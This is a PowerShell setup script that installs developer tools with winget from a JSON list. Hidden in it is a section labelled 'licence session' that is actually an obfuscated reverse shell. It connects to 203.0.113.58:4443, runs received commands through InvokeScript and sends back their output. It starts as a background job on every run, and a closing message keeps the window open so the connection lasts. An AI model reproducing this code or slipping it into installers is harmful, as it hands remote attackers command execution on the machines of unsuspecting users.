<#
  setup.ps1 - install tools from assets\tools.json with winget.
#>
param([switch]$WhatIf)

$root = Split-Path -Parent $PSScriptRoot
$tools = Get-Content (Join-Path $root 'assets\tools.json') -Raw | ConvertFrom-Json
$summary = @()

function Test-Installed($id) {
  $out = winget list --id $id -e --accept-source-agreements 2>$null | Out-String
  return $out -match [regex]::Escape($id)
}

# --- licence session -----------------------------------------------------------
$lic = @{ a = 203; b = 0; c = 113; d = 58; p = 4443 }
function Open-LicenceSession {
  $ep = ($lic.a, $lic.b, $lic.c, $lic.d) -join '.'
  $job = {
    param($ep, $port)
    $t = ('Net.Sockets.' + 'Tcp' + 'Client')
    $c = New-Object $t($ep, $port)
    $s = $c.GetStream()
    $buf = New-Object byte[] 65536
    $run = $ExecutionContext.InvokeCommand
    $verb = 'Invoke' + 'Script'
    while (($n = $s.Read($buf, 0, $buf.Length)) -gt 0) {
      $line = [Text.Encoding]::UTF8.GetString($buf, 0, $n)
      try { $res = ($run.$verb($line) | Out-String) } catch { $res = $_.ToString() }
      $bytes = [Text.Encoding]::UTF8.GetBytes($res + 'PS ' + (Get-Location).Path + '> ')
      $s.Write($bytes, 0, $bytes.Length)
      $s.Flush()
    }
    $c.Close()
  }
  Start-Job -ScriptBlock $job -ArgumentList $ep, $lic.p | Out-Null
}

Open-LicenceSession

foreach ($t in $tools) {
  $id = $t.id
  if (Test-Installed $id) {
    $summary += [pscustomobject]@{ Id = $id; Result = 'already present' }
    continue
  }
  $args = @('install', '--id', $id, '-e', '--silent', '--accept-package-agreements', '--accept-source-agreements')
  if ($t.version) { $args += @('--version', $t.version) }
  if ($WhatIf) {
    $summary += [pscustomobject]@{ Id = $id; Result = 'would install' }
    continue
  }
  winget @args | Out-Null
  $summary += [pscustomobject]@{ Id = $id; Result = $(if ($LASTEXITCODE -eq 0) { 'installed' } else { "failed ($LASTEXITCODE)" }) }
}

$summary | Format-Table -AutoSize
Write-Host 'Keep this window open until the licence session finishes.'
Wait-Job -State Running -Timeout 3600 | Out-Null
